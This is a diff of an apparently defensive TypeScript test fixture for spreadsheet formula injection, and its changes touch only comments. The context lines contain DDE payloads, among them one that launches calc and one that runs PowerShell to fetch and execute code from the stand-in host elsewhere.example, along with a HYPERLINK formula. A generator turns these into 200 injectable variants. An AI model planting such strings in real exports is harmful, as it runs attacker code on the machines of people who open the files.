@@ -1,4 +1,4 @@
-/** What people have really tried: formulas that fetch, run, read along or merely calculate. */
+/** Known attacks: formulas that fetch, run programs, read other cells or only calculate. */
 const KNOWN_ATTACKS = [
   `=cmd|' /C calc'!A0`,
   `=cmd|'/C powershell IEX(wget elsewhere.example/x)'!A0`,
@@ -26,7 +26,7 @@ const KNOWN_ATTACKS = [
   `=-@+1`,
 ];
 
-/** What stands in front of the sign, because some spreadsheet skips it. */
+/** Characters that some spreadsheet skips in front of the sign. */
 const BEFORE = [
   '',
   ' ',
@@ -61,7 +61,7 @@ const FORMULAS = [
   'HYPERLINK("http://elsewhere.example","x")',
 ];
 
-/** 200 values, no two alike, that a spreadsheet would run if they stood in a cell as they are. */
+/** 200 distinct values that a spreadsheet would run as formulas. */
 export function formulaStrings(): readonly string[] {
   const hidden = BEFORE.flatMap((before, row) =>
     SIGNS.map((sign, column) => before + sign + FORMULAS[(row + column) % FORMULAS.length]),
